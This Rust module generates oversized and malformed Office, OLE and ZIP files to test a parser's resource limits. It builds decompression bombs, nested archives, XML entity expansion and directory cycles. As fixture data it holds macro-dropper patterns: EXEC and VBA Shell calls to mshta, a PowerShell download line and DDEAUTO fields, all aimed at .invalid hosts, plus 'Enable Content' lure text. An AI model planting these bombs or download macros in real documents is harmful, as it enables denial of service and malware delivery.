//! Files that ask for more time or memory than their size allows, for limit tests and benches; they
//! are built when asked for and never committed.
//!
//! Each generator is given the size of file to aim at, so that growth can be measured.

use crate::biff::{Biff, Record, Records, unicode_string};
use crate::bytes::Put;
use crate::container::{EXCEL_8, Entry, compound_file};
use crate::ooxml::{Pack, XmlSheet, excel, workbook};
use crate::ptg::{At, Class, Tokens};
use crate::raw_cfb::{Node, RawCfb};
use crate::vba;
use crate::zip::{Member, Zip};

/// A name, and a function from about how many bytes to a file.
pub type Generator = (&'static str, fn(usize) -> Vec<u8>);

/// All generators.
pub const ALL: &[Generator] = &[
    ("sst_that_claims_four_billion", sst_that_claims_four_billion),
    ("sst_of_empty_strings", sst_of_empty_strings),
    ("sst_of_false_lengths", sst_of_false_lengths),
    ("sst_of_addresses", sst_of_addresses),
    ("sst_of_phrases", sst_of_phrases),
    ("one_phrase_many_cells", one_phrase_many_cells),
    ("one_address_many_cells", one_address_many_cells),
    ("continue_flood", continue_flood),
    ("empty_records", empty_records),
    ("mulrk_flood", mulrk_flood),
    ("nested_bof", nested_bof),
    ("many_sheets_one_substream", many_sheets_one_substream),
    ("names_flood", names_flood),
    ("auto_open_flood", auto_open_flood),
    ("supbook_flood", supbook_flood),
    ("hyperlink_flood", hyperlink_flood),
    ("text_box_flood", text_box_flood),
    ("exec_flood", exec_flood),
    ("exec_of_one_long_text", exec_of_one_long_text),
    ("formulas_of_parentheses", formulas_of_parentheses),
    ("formulas_of_calls", formulas_of_calls),
    ("formulas_of_nothing", formulas_of_nothing),
    ("macro_formula_many_cells", macro_formula_many_cells),
    ("macro_text_many_cells", macro_text_many_cells),
    ("concatenation_doubles", concatenation_doubles),
    ("names_that_double", names_that_double),
    ("tiny_streams", tiny_streams),
    ("many_workbook_streams", many_workbook_streams),
    ("directory_cycle", directory_cycle),
    ("files_in_free_sectors", files_in_free_sectors),
    ("properties_share_one_text", properties_share_one_text),
    ("native_objects", native_objects),
    ("nested_natives", nested_natives),
    ("vba_bomb", vba_bomb),
    ("vba_modules_share_one_stream", vba_modules_share_one_stream),
    ("vba_constants_double", vba_constants_double),
    ("vba_variables_double", vba_variables_double),
    ("vba_call_chain", vba_call_chain),
    ("vba_one_long_line", vba_one_long_line),
    ("vba_of_strings", vba_of_strings),
    ("vba_of_addresses", vba_of_addresses),
    ("zip_of_spaces", zip_of_spaces),
    ("zip_of_tiny_entries", zip_of_tiny_entries),
    ("zip_of_one_shared_entry", zip_of_one_shared_entry),
    ("zip_of_local_headers", zip_of_local_headers),
    ("zip_of_end_records", zip_of_end_records),
    ("zips_in_zips", zips_in_zips),
    ("package_of_strings", package_of_strings),
    ("package_of_cells", package_of_cells),
    ("package_of_macro_cells", package_of_macro_cells),
    ("package_of_relationships", package_of_relationships),
    ("package_of_names", package_of_names),
    ("package_of_entities", package_of_entities),
    ("package_of_tags", package_of_tags),
    ("document_of_paragraphs", document_of_paragraphs),
    ("document_of_fields", document_of_fields),
];

const BOF: u16 = 0x0809;
const EOF: u16 = 0x000A;
const LABEL_SST: u16 = 0x00FD;
const SST: u16 = 0x00FC;
const GLOBALS: u16 = 0x0005;
const WORK: u16 = 0x0010;
const MACRO: u16 = 0x0040;

fn bof(into: &mut Records, kind: u16) {
    let mut body = Vec::new();
    body.u16(0x0600).u16(kind).u16(0x0DBB).u16(0x07CC).u32(0x41).u32(6);
    into.push(BOF, &body);
}

/// A bare stream: globals, then one sheet that no BOUNDSHEET names.
fn stream(globals: impl FnOnce(&mut Records), kind: u16, sheet: impl FnOnce(&mut Records)) -> Vec<u8> {
    let mut out = Records::new(Biff::V8);
    bof(&mut out, GLOBALS);
    globals(&mut out);
    out.push(EOF, &[]);
    bof(&mut out, kind);
    sheet(&mut out);
    out.push(EOF, &[]);
    out.into_bytes()
}

fn in_globals(fill: impl FnOnce(&mut Records)) -> Vec<u8> {
    stream(fill, WORK, |_| {})
}

fn in_sheet(kind: u16, fill: impl FnOnce(&mut Records)) -> Vec<u8> {
    stream(|_| {}, kind, fill)
}

fn until(out: &mut Records, size: usize, mut add: impl FnMut(&mut Records, usize)) {
    let mut index = 0;
    while out.len() < size {
        add(out, index);
        index += 1;
    }
}

fn sst(claimed: u32, fill: impl FnOnce(&mut Vec<u8>)) -> Record {
    let mut body = Vec::new();
    body.u32(claimed).u32(claimed);
    fill(&mut body);
    Record::new(SST, body)
}

fn push_sst(out: &mut Records, claimed: u32, fill: impl FnOnce(&mut Vec<u8>)) {
    let record = sst(claimed, fill);
    out.push(record.id, &record.body);
}

/// XLUnicodeRichExtendedString with 8-bit characters.
fn sst_string(text: &str) -> Vec<u8> {
    let mut out = Vec::new();
    out.u16(text.len() as u16).u8(0).raw(text.as_bytes());
    out
}

/// A shared string table that claims 4 billion strings and holds a few, then ends.
pub fn sst_that_claims_four_billion(_: usize) -> Vec<u8> {
    in_globals(|out| {
        push_sst(out, u32::MAX, |body| {
            body.raw(&sst_string("only one"));
        })
    })
}

/// Strings of three bytes: an index over them is larger than the file.
pub fn sst_of_empty_strings(size: usize) -> Vec<u8> {
    in_globals(|out| {
        push_sst(out, u32::MAX, |body| {
            body.zeros(size);
        })
    })
}

/// Each string claims 65,535 characters and 4 GB of phonetic data.
pub fn sst_of_false_lengths(size: usize) -> Vec<u8> {
    in_globals(|out| {
        until(out, size, |out, _| {
            push_sst(out, 8, |body| {
                body.u16(0xFFFF).u8(0x0D).u16(0xFFFF).u32(u32::MAX).raw(b"text");
            });
        });
    })
}

fn table_of(size: usize, text: impl Fn(usize) -> String) -> Vec<u8> {
    let mut body = Vec::new();
    let mut count = 0;
    while body.len() < size {
        body.raw(&sst_string(&text(count)));
        count += 1;
    }
    // CONTINUE repeats the flags byte inside a string, so strings must not be cut: one SST a
    // piece would be no table. Padding to the border keeps them whole.
    let cells = |out: &mut Records| {
        for index in 0..count.min(60_000) {
            out.push(LABEL_SST, &label(index as u16, 0, index as u32));
        }
    };
    stream(|out| whole_strings(out, count as u32, &body), WORK, cells)
}

/// Pushes an SST whose pieces end where a string ends.
fn whole_strings(out: &mut Records, count: u32, strings: &[u8]) {
    let mut piece = Vec::new();
    piece.u32(count).u32(count);
    let (mut id, mut rest) = (SST, strings);
    while rest.len() > 2 {
        let len = 3 + usize::from(u16::from_le_bytes([rest[0], rest[1]]));
        let (string, after) = rest.split_at(len.min(rest.len()));
        if piece.len() + string.len() > 8224 {
            out.push(id, &piece);
            piece.clear();
            id = 0x003C; // CONTINUE
        }
        piece.raw(string);
        rest = after;
    }
    out.push(id, &piece);
}

fn label(row: u16, col: u16, isst: u32) -> Vec<u8> {
    let mut body = Vec::new();
    body.u16(row).u16(col).u16(0x0F).u32(isst);
    body
}

/// Each string is another address.
pub fn sst_of_addresses(size: usize) -> Vec<u8> {
    table_of(size, |index| format!("http://h{index}.invalid/a.exe"))
}

/// Each string is words of a lure.
pub fn sst_of_phrases(size: usize) -> Vec<u8> {
    table_of(size, |index| {
        format!("{index} Enable Editing and Enable Content to view the protected document")
    })
}

fn many_labels(size: usize, text: &str) -> Vec<u8> {
    let table = |out: &mut Records| {
        push_sst(out, 1, |body| {
            body.raw(&sst_string(text));
        })
    };
    stream(table, WORK, |out| {
        until(out, size, |out, index| {
            out.push(LABEL_SST, &label((index / 256) as u16, (index % 256) as u16, 0));
        });
    })
}

/// Cells that all show the words of a lure.
pub fn one_phrase_many_cells(size: usize) -> Vec<u8> {
    many_labels(size, "Click Enable Editing, then Enable Content. This document is protected.")
}

/// Cells that all show one address.
pub fn one_address_many_cells(size: usize) -> Vec<u8> {
    many_labels(size, "powershell -c iwr http://example.invalid/a.exe; \\\\share.invalid\\a\\b.dll")
}

/// A string of 65,535 characters in CONTINUE records of one character.
pub fn continue_flood(size: usize) -> Vec<u8> {
    in_globals(|out| {
        push_sst(out, 1, |body| {
            body.u16(0xFFFF).u8(0);
        });
        until(out, size, |out, _| {
            out.push(0x003C, &[0, b'a']);
        });
    })
}

/// Records without a body.
pub fn empty_records(size: usize) -> Vec<u8> {
    in_sheet(WORK, |out| {
        until(out, size, |out, _| {
            out.push(0x0867, &[]);
        })
    })
}

/// MULRK records whose columns claim 256 values and which hold none.
pub fn mulrk_flood(size: usize) -> Vec<u8> {
    in_sheet(WORK, |out| {
        until(out, size, |out, index| {
            let mut body = Vec::new();
            body.u16(index as u16).u16(0).u16(255);
            out.push(if index % 2 == 0 { 0x00BD } else { 0x00BE }, &body);
        });
    })
}

/// Substreams inside substreams that never end.
pub fn nested_bof(size: usize) -> Vec<u8> {
    in_sheet(WORK, |out| until(out, size, |out, index| bof(out, [WORK, MACRO, 0x20][index % 3])))
}

/// Half of the file is BOUNDSHEETs, all of which lead to the other half.
pub fn many_sheets_one_substream(size: usize) -> Vec<u8> {
    let count = size / 2 / 22;
    let at = (20 + count * 22 + 4) as u32;
    let globals = |out: &mut Records| {
        for index in 0..count {
            let mut body = Vec::new();
            body.u32(at).u8(0).u8((index % 2) as u8).u8(10).u8(0).raw(format!("s{index:09}").as_bytes());
            out.push(0x0085, &body);
        }
    };
    stream(globals, MACRO, |out| {
        until(out, size, |out, index| {
            out.push(6, &formula(index, &[0x1E, 1, 0]));
        })
    })
}

fn lbl(flags: u16, name: &[u8], rgce: &[u8]) -> Vec<u8> {
    let mut body = Vec::new();
    body.u16(flags).u8(0).u8(name.len() as u8).u16(rgce.len() as u16).u16(0).u16(0).u32(0);
    body.u8(0).raw(name).raw(rgce);
    body
}

/// Names of one character.
pub fn names_flood(size: usize) -> Vec<u8> {
    in_globals(|out| {
        until(out, size, |out, _| {
            out.push(0x0018, &lbl(0, b"a", &[0x1E, 1, 0]));
        })
    })
}

/// Names that all start a macro.
pub fn auto_open_flood(size: usize) -> Vec<u8> {
    let names = |out: &mut Records| {
        until(out, size, |out, _| {
            out.push(0x0018, &lbl(0x21, &[1], &[0x3A, 0, 0, 0, 0, 0, 0]));
        });
    };
    stream(names, MACRO, |out| {
        out.push(6, &formula(0, &exec()));
    })
}

/// Other books.
pub fn supbook_flood(size: usize) -> Vec<u8> {
    in_globals(|out| {
        until(out, size, |out, index| {
            let mut body = Vec::new();
            body.u16(1).raw(&unicode_string(&format!("\u{1}http://h{index}.invalid/a.xls")));
            out.push(0x01AE, &body);
        });
    })
}

/// Hyperlinks.
pub fn hyperlink_flood(size: usize) -> Vec<u8> {
    in_sheet(WORK, |out| {
        until(out, size, |out, index| {
            let link =
                crate::biff::drawing::hyperlink(index as u16, 0, &format!("http://h{index}.invalid/a"));
            out.push(link.id, &link.body);
        });
    })
}

/// TXO records, each with a text in a CONTINUE record.
pub fn text_box_flood(size: usize) -> Vec<u8> {
    in_sheet(WORK, |out| {
        until(out, size, |out, index| {
            let text = format!("Enable Content {index}");
            let mut body = Vec::new();
            body.u16(0x0212).u16(0).zeros(6).u16(text.len() as u16).u16(16).u32(0);
            out.push(0x01B6, &body);
            let mut chars = vec![0];
            chars.raw(text.as_bytes());
            out.push(0x003C, &chars).push(0x003C, &[0; 16]);
        });
    })
}

fn formula(index: usize, rgce: &[u8]) -> Vec<u8> {
    let mut body = Vec::new();
    body.u16((index / 256) as u16).u16((index % 256) as u16).u16(0x0F).f64(0.0).u16(0).u32(0);
    body.u16(rgce.len() as u16).raw(rgce);
    body
}

/// `EXEC("calc http://a.invalid")`
fn exec() -> Vec<u8> {
    let text = b"mshta http://a.invalid/a.hta";
    let mut rgce = vec![0x17, text.len() as u8, 0];
    rgce.raw(text).raw(&[0x42, 1]).u16(0x006E);
    rgce
}

/// A macro sheet in which every cell starts a program.
pub fn exec_flood(size: usize) -> Vec<u8> {
    let rgce = exec();
    in_sheet(MACRO, |out| {
        until(out, size, |out, index| {
            out.push(6, &formula(index, &rgce));
        })
    })
}

/// A macro sheet in which every cell starts what stands in one cell of 250 characters, 30 times.
pub fn exec_of_one_long_text(size: usize) -> Vec<u8> {
    in_sheet(MACRO, |out| {
        let first = [&[0x17, 250, 0][..], &[b'x'; 250]].concat();
        out.push(6, &formula(0, &first));
        let mut rgce = vec![0x44, 0, 0, 0, 0];
        for _ in 0..30 {
            rgce.raw(&[0x44, 0, 0, 0, 0, 0x08]);
        }
        rgce.raw(&[0x42, 1]).u16(0x006E);
        until(out, size, |out, index| {
            out.push(6, &formula(index + 1, &rgce));
        });
    })
}

/// Streams that all are workbooks, each with other sheets.
pub fn many_workbook_streams(size: usize) -> Vec<u8> {
    let children = (0..size / 400)
        .map(|index| {
            let kind = if index % 2 == 0 { MACRO } else { WORK };
            Node::stream(&format!("s{index}"), stream(|_| {}, kind, |_| {}))
        })
        .collect();
    cfb(children).layout().into_bytes()
}

fn deep(size: usize, token: &[u8]) -> Vec<u8> {
    let mut rgce = vec![0x1E, 1, 0];
    while rgce.len() + token.len() <= 8_000 {
        rgce.raw(token);
    }
    in_sheet(MACRO, |out| {
        until(out, size, |out, index| {
            out.push(6, &formula(index, &rgce));
        })
    })
}

/// Formulas of 8,000 parentheses around a number.
pub fn formulas_of_parentheses(size: usize) -> Vec<u8> {
    deep(size, &[0x15])
}

/// Formulas of 2,600 calls inside one another.
pub fn formulas_of_calls(size: usize) -> Vec<u8> {
    deep(size, &[0x41, 24, 0]) // ABS
}

/// Macro cells without a token.
pub fn formulas_of_nothing(size: usize) -> Vec<u8> {
    in_sheet(MACRO, |out| {
        until(out, size, |out, index| {
            out.push(6, &formula(index, &[]));
        })
    })
}

/// Macro cells of 31 bytes that lead to one shared formula of 8 kB.
pub fn macro_formula_many_cells(size: usize) -> Vec<u8> {
    let mut exp = Tokens::new(Biff::V8);
    exp.exp(0, 0);
    in_sheet(MACRO, |out| {
        let mut rgce = vec![0x1E, 1, 0];
        while rgce.len() < 8_000 {
            rgce.raw(&[0x1E, 1, 0, 0x03]);
        }
        until(out, size, |out, index| {
            out.push(6, &formula(index, &[0x01, 0, 0, 0, 0]));
            if index == 0 {
                let mut body = Vec::new();
                body.u16(0).u16(0xFFFF).u8(0).u8(255).u8(0).u8(255).u16(rgce.len() as u16).raw(&rgce);
                out.push(0x04BC, &body);
            }
        });
    })
}

/// Macro cells that all remember one shared string of 8,000 characters.
pub fn macro_text_many_cells(size: usize) -> Vec<u8> {
    let text = "=EXEC(\"mshta http://a.invalid/a.hta\") ".repeat(200);
    let table = |out: &mut Records| {
        push_sst(out, 1, |body| {
            body.raw(&sst_string(&text));
        })
    };
    stream(table, MACRO, |out| {
        until(out, size, |out, index| {
            out.push(LABEL_SST, &label((index / 256) as u16, (index % 256) as u16, 0));
        });
    })
}

/// Each macro cell is the one above it, twice, then handed to EXEC.
pub fn concatenation_doubles(size: usize) -> Vec<u8> {
    in_sheet(MACRO, |out| {
        let mut first = vec![0x17, 250, 0];
        first.raw(&[b'x'; 250]);
        out.push(6, &formula(0, &first));
        until(out, size, |out, index| {
            let above = [0x44, index as u8, (index >> 8) as u8, 0, 0];
            let mut rgce = above.to_vec();
            rgce.raw(&above).u8(0x08);
            if index % 16 == 15 {
                rgce.raw(&[0x42, 1]).u16(0x006E);
            }
            out.push(6, &formula((index + 1) * 256, &rgce));
        });
    })
}

/// Each name is the one before it, twice.
pub fn names_that_double(size: usize) -> Vec<u8> {
    let mut rgce = Tokens::new(Biff::V8);
    rgce.reference(Class::Value, At::absolute(0, 0));
    in_globals(|out| {
        out.push(0x0018, &lbl(0, b"n0", &[&[0x17, 250, 0][..], &[b'x'; 250]].concat()));
        until(out, size, |out, index| {
            let mut before = vec![0x43];
            before.u32(index as u32 + 1);
            let rgce = [&before[..], &before, &[0x08]].concat();
            out.push(0x0018, &lbl(0x0E, format!("n{}", index + 1).as_bytes(), &rgce));
        });
    })
}

fn cfb(children: Vec<Node>) -> RawCfb {
    RawCfb { major_version: 4, ..RawCfb::excel(children) }
}

/// Streams of one byte.
pub fn tiny_streams(size: usize) -> Vec<u8> {
    let children = (0..size / 200).map(|index| Node::stream(&format!("s{index}"), vec![b'a'])).collect();
    cfb(children).layout().into_bytes()
}

/// A directory in which every sibling link leads back.
pub fn directory_cycle(size: usize) -> Vec<u8> {
    let children = (0..size / 200).map(|index| Node::storage(&format!("s{index}"), Vec::new())).collect();
    let mut layout = cfb(children).layout();
    let count = layout.directory.len() as u32;
    for (at, entry) in (0..).zip(&mut layout.directory) {
        (entry.left, entry.right, entry.child) = ((at + 1) % count, count - 1 - at, at / 2);
    }
    layout.into_bytes()
}

/// Free sectors that each begin like a file of its own.
pub fn files_in_free_sectors(size: usize) -> Vec<u8> {
    let mut layout = RawCfb::excel(vec![Node::stream("Workbook", in_sheet(WORK, |_| {}))]).layout();
    let small = RawCfb::excel(vec![Node::stream("Workbook", in_sheet(MACRO, |_| {}))]).layout().into_bytes();
    let mut sector = 0;
    while sector * 512 < size.min(6 << 20) {
        let piece = if sector.is_multiple_of(8) { &small[..] } else { b"PK\x03\x04".as_slice() };
        layout.overwrite.push((layout.fat.len() as u32, piece[..piece.len().min(512)].to_vec()));
        layout.fat.push(0xFFFF_FFFF);
        // A sector that is used, so that the next free one stands alone.
        layout.fat.push(0xFFFF_FFFE);
        sector += 2;
    }
    let needed = layout.fat.len().div_ceil(127);
    while layout.fat_sectors.len() < needed.min(109) {
        let sector = layout.fat.len() as u32;
        layout.difat[layout.fat_sectors.len()] = sector;
        layout.fat_sectors.push(sector);
        layout.fat.push(0xFFFF_FFFD);
        layout.fat_count += 1;
    }
    layout.into_bytes()
}

/// A property set in which all properties lead to one long text.
pub fn properties_share_one_text(size: usize) -> Vec<u8> {
    let text_len = size / 2;
    let count = size / 2 / 8;
    let mut set = Vec::new();
    set.u16(0xFFFE).u16(0).u32(0x0002_0105).zeros(16).u32(1);
    set.raw(&[0xE0, 0x85, 0x9F, 0xF2, 0xF9, 0x4F, 0x68, 0x10, 0xAB, 0x91, 8, 0, 0x2B, 0x27, 0xB3, 0xD9]);
    set.u32(48);
    let text_at = (8 + count * 8) as u32;
    set.u32(text_at + 8 + text_len as u32).u32(count as u32);
    for index in 0..count {
        set.u32(2 + index as u32).u32(text_at);
    }
    set.u32(0x1E).u32(text_len as u32);
    set.resize(set.len() + text_len, b'x');
    let book = in_sheet(WORK, |_| {});
    let entries = [Entry::stream("Workbook", book), Entry::stream("\u{5}SummaryInformation", set)];
    compound_file(EXCEL_8, &entries)
}

fn native(data: &[u8]) -> Vec<u8> {
    let mut body = Vec::new();
    body.u16(2).raw(b"a.xls\0").raw(b"C:\\a.xls\0").u32(0x0003_0000).u32(9).raw(b"C:\\a.xls\0");
    body.u32(data.len() as u32).raw(data);
    let mut out = Vec::new();
    out.u32(body.len() as u32).raw(&body);
    out
}

/// Packaged files, each of them a workbook.
pub fn native_objects(size: usize) -> Vec<u8> {
    let inner = in_sheet(MACRO, |out| {
        out.push(6, &formula(0, &exec()));
    });
    let objects = (0..size / (inner.len() + 300))
        .map(|index| {
            Node::storage(&format!("MBD{index:08X}"), vec![Node::stream("\u{1}Ole10Native", native(&inner))])
        })
        .collect();
    cfb(objects).layout().into_bytes()
}

/// A packaged file in a packaged file, 40 deep.
pub fn nested_natives(size: usize) -> Vec<u8> {
    let mut inner = in_sheet(WORK, |out| {
        until(out, size, |out, _| {
            out.push(0x0867, &[0; 4096]);
        })
    });
    for _ in 0..40 {
        let object = Node::storage("MBD00000001", vec![Node::stream("\u{1}Ole10Native", native(&inner))]);
        inner = cfb(vec![object]).layout().into_bytes();
    }
    inner
}

/// A container in which each chunk of seven bytes becomes 4,096.
fn bomb(chunks: usize, byte: u8) -> Vec<u8> {
    let mut out = vec![0x01];
    for _ in 0..chunks {
        // One literal, then one copy token: offset 1, length 4,095 (12 bits of length at position 1).
        let body = [0b10, byte, 0xFC, 0x0F];
        out.u16(0xB000 | (body.len() as u16 - 1)).raw(&body);
    }
    out
}

fn project_with(names: &[String], stream_of: impl Fn(usize) -> String, streams: Vec<Entry>) -> Vec<u8> {
    let mut project = vba::Project::new("", "");
    project.modules = (0..)
        .zip(names)
        .map(|(index, name)| {
            let mut module = vba::Module::standard(name, "");
            module.decoy_stream_name = Some(stream_of(index));
            module
        })
        .collect();
    let root = "_VBA_PROJECT_CUR/";
    let mut entries = vec![
        Entry::stream("Workbook", in_sheet(WORK, |_| {})),
        Entry::stream(&format!("{root}PROJECT"), project.project()),
        Entry::stream(&format!("{root}VBA/dir"), vba::compress_raw(&project.dir())),
        Entry::stream(&format!("{root}VBA/_VBA_PROJECT"), vec![0xCC, 0x61, 0xFF, 0xFF, 0, 0, 0]),
    ];
    entries.extend(streams);
    compound_file(EXCEL_8, &entries)
}

fn one_module(data: Vec<u8>) -> Vec<u8> {
    let stream = Entry::stream("_VBA_PROJECT_CUR/VBA/Module1", data);
    project_with(&["Module1".to_owned()], |_| "Module1".to_owned(), vec![stream])
}

/// A module of 4 KiB for each six bytes.
pub fn vba_bomb(size: usize) -> Vec<u8> {
    one_module(bomb(size / 6, b'x'))
}

/// Modules that all name one stream.
pub fn vba_modules_share_one_stream(size: usize) -> Vec<u8> {
    let count = size / 2 / 160;
    let names: Vec<String> = (0..count).map(|index| format!("M{index}")).collect();
    let stream = Entry::stream("_VBA_PROJECT_CUR/VBA/M0", bomb(size / 2 / 6, b'\n'));
    project_with(&names, |_| "M0".to_owned(), vec![stream])
}

fn source(text: &str) -> Vec<u8> {
    one_module(vba::compress_raw(text.as_bytes()))
}

fn lines(size: usize, head: &str, line: impl Fn(usize) -> String, tail: &str) -> Vec<u8> {
    let mut text = format!("Attribute VB_Name = \"Module1\"\r\n{head}");
    let mut index = 0;
    while text.len() < size {
        text += &line(index);
        text += "\r\n";
        index += 1;
    }
    source(&(text + tail))
}

/// Each constant is the one before it, twice; the last is run.
pub fn vba_constants_double(size: usize) -> Vec<u8> {
    let line = |index: usize| format!("Const c{} = c{index} & c{index}", index + 1);
    lines(
        size,
        "Const c0 = \"xxxxxxxxxxxxxxxxxxxxxxxx\"\r\n",
        line,
        "Sub Auto_Open()\r\nShell c40\r\nShell c900\r\nEnd Sub\r\n",
    )
}

/// A variable that is doubled and run in turn.
pub fn vba_variables_double(size: usize) -> Vec<u8> {
    let line = |index: usize| if index % 8 == 7 { "Shell a".to_owned() } else { "a = a & a".to_owned() };
    lines(size, "Sub Auto_Open()\r\na = \"xxxxxxxxxxxxxxxxxxxxxxxx\"\r\n", line, "End Sub\r\n")
}

/// Procedures that each call the next one and the first.
pub fn vba_call_chain(size: usize) -> Vec<u8> {
    let line = |index: usize| {
        format!("Sub p{index}()\r\np{}\r\np0\r\nShell \"cmd /c a{index}\"\r\nEnd Sub", index + 1)
    };
    lines(size, "Sub Auto_Open()\r\np0\r\nEnd Sub\r\n", line, "")
}

/// A module of one line.
pub fn vba_one_long_line(size: usize) -> Vec<u8> {
    let text =
        format!("Sub Auto_Open()\r\na = \"x\"{}\r\nShell a\r\nEnd Sub\r\n", " & Chr(65)".repeat(size / 10));
    source(&text)
}

/// Short strings.
pub fn vba_of_strings(size: usize) -> Vec<u8> {
    lines(
        size,
        "Sub Auto_Open()\r\n",
        |_| "a = a & \"h\" & \"t\" & \"t\" & \"p\"".to_owned(),
        "Shell a\r\nEnd Sub\r\n",
    )
}

/// Another address in each line.
pub fn vba_of_addresses(size: usize) -> Vec<u8> {
    let line = |index: usize| format!("Shell \"mshta http://h{index}.invalid/a.hta\"");
    lines(size, "Sub Auto_Open()\r\n", line, "End Sub\r\n")
}

/// An entry that becomes a thousand times its size.
pub fn zip_of_spaces(size: usize) -> Vec<u8> {
    let most = size.saturating_mul(1000).min(64 << 20);
    Zip::of([Member::deflated("a.xml", &vec![b' '; most])]).into_bytes()
}

/// Entries of a byte each.
pub fn zip_of_tiny_entries(size: usize) -> Vec<u8> {
    Zip::of((0..size / 100).map(|index| Member::stored(&format!("{index}"), b"x"))).into_bytes()
}

/// A directory whose entries all are one large entry.
pub fn zip_of_one_shared_entry(size: usize) -> Vec<u8> {
    let first = Member::deflated("a", &vec![b' '; 1 << 20]);
    let shared = (1..size / 50).map(|_| Member { shares: Some(0), packed: Vec::new(), ..first.clone() });
    Zip::of(std::iter::once(first.clone()).chain(shared)).into_bytes()
}

/// Local headers whose sizes are not stated, and no directory.
pub fn zip_of_local_headers(size: usize) -> Vec<u8> {
    let members =
        (0..size / 48).map(|_| Member { descriptor: true, listed: false, ..Member::deflated("a", b"") });
    Zip { without_end: true, ..Zip::of(members) }.into_bytes()
}

/// End records that lead nowhere.
pub fn zip_of_end_records(size: usize) -> Vec<u8> {
    b"PK\x05\x06\0\0\0\0\x01\0\x01\0".repeat(size / 12)
}

/// Archives in archives.
pub fn zips_in_zips(size: usize) -> Vec<u8> {
    let mut out = Zip::of([Member::deflated("a.xml", &vec![b' '; size])]).into_bytes();
    for _ in 0..40 {
        out = Zip::of([Member::deflated("a.zip", &out)]).into_bytes();
    }
    out
}

fn package_with(sheet: &str, more: &str) -> Zip {
    let mut pack = workbook(excel::MACROS, &[XmlSheet::plain("Sheet1")], &[], more);
    for (name, _, content) in &mut pack.parts {
        if name.contains("sheet1.xml") {
            *content = sheet.as_bytes().to_vec();
        }
    }
    pack.zip()
}

/// The package with its sheet as it is: what packs too well is no measure of a file's size.
fn unpacked(mut zip: Zip, sheet: &str) -> Vec<u8> {
    for member in zip.members.iter_mut().filter(|member| member.name.ends_with(b"sheet1.xml")) {
        *member = Member::stored("xl/worksheets/sheet1.xml", sheet.as_bytes());
    }
    zip.into_bytes()
}

/// How much text packs to about `size` bytes when it repeats itself.
const PACKS: usize = 20;

/// A shared string table of short strings.
pub fn package_of_strings(size: usize) -> Vec<u8> {
    let mut pack = workbook(excel::PLAIN, &[XmlSheet::plain("Sheet1")], &[], "");
    let strings: String = (0..size * PACKS / 40).map(|index| format!("<si><t>{index}</t></si>")).collect();
    pack.part(
        "xl/sharedStrings.xml",
        "application/vnd.openxmlformats-officedocument.spreadsheetml.sharedStrings+xml",
        format!("<sst>{strings}</sst>").into_bytes(),
    );
    pack.relate("xl/workbook.xml", "rIdS", "sharedStrings", "sharedStrings.xml");
    pack.into_bytes()
}

/// Cells of one inline text.
pub fn package_of_cells(size: usize) -> Vec<u8> {
    let cell = "<c t=\"inlineStr\"><is><t>x</t></is></c>";
    let sheet = format!("<worksheet><row>{}</row></worksheet>", cell.repeat(size * PACKS / cell.len()));
    package_with(&sheet, "").into_bytes()
}

/// Cells of a macro sheet, each with a formula.
pub fn package_of_macro_cells(size: usize) -> Vec<u8> {
    let cell = "<row><c><f>EXEC(A1&amp;\"a\")</f></c></row>";
    let sheet = format!("<macrosheet>{}</macrosheet>", cell.repeat(size * PACKS / cell.len()));
    package_with(&sheet, "").into_bytes()
}

/// Relationships that all lead out of the package.
pub fn package_of_relationships(size: usize) -> Vec<u8> {
    let mut pack = workbook(excel::PLAIN, &[XmlSheet::plain("Sheet1")], &[], "");
    for index in 0..size / 20 {
        pack.external("xl/workbook.xml", &format!("r{index}"), "oleObject", "http://one.invalid/a");
    }
    pack.into_bytes()
}

/// Defined names that all start a macro.
pub fn package_of_names(size: usize) -> Vec<u8> {
    let name = "<definedName name=\"_xlnm.Auto_Open\">Sheet1!$A$1</definedName>";
    package_with("<worksheet/>", &name.repeat(size * PACKS / name.len())).into_bytes()
}

/// Entities that grow tenfold each, for whoever expands them.
pub fn package_of_entities(size: usize) -> Vec<u8> {
    let mut entities = String::from("<!ENTITY a0 \"aaaaaaaaaa\">");
    for index in 1..20 {
        entities += &format!("<!ENTITY a{index} \"{}\">", format!("&a{};", index - 1).repeat(10));
    }
    let cells = "<c t=\"str\"><v>&a19;</v></c>".repeat(size / 28);
    let sheet = format!("<!DOCTYPE a [{entities}]><worksheet><row>{cells}</row></worksheet>");
    unpacked(package_with(&sheet, ""), &sheet)
}

/// Tags that nest without end.
pub fn package_of_tags(size: usize) -> Vec<u8> {
    let sheet = "<a>".repeat(size / 3);
    unpacked(package_with(&sheet, ""), &sheet)
}

fn document_with(body: &str) -> Vec<u8> {
    let kind = "application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml";
    Pack::new("word/document.xml", kind, &format!("<document><body>{body}</body></document>")).into_bytes()
}

/// Paragraphs of a letter each.
pub fn document_of_paragraphs(size: usize) -> Vec<u8> {
    let paragraph = "<p><r><t>x</t></r></p>";
    document_with(&paragraph.repeat(size * PACKS / paragraph.len()))
}

/// Fields within fields, and fields beside them.
pub fn document_of_fields(size: usize) -> Vec<u8> {
    let field = "<fldChar fldCharType=\"begin\"/><instrText>DDEAUTO cmd a</instrText>";
    let ends = "<fldChar fldCharType=\"end\"/>".repeat(40);
    let nest = format!("{}{ends}", field.repeat(40));
    document_with(&nest.repeat(size * PACKS / nest.len()))
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn generators_make_about_the_size_asked_for_or_a_fixed_one() {
        for (name, make) in ALL {
            let len = make(100_000).len();
            assert!(len <= 200_000 || *name == "nested_natives", "{name}: {len} bytes");
        }
    }

    #[test]
    fn a_chunk_of_the_bomb_holds_4096_bytes() {
        assert_eq!(vba::decompress(&bomb(3, b'x')), [b'x'; 3 * 4096]);
    }
}
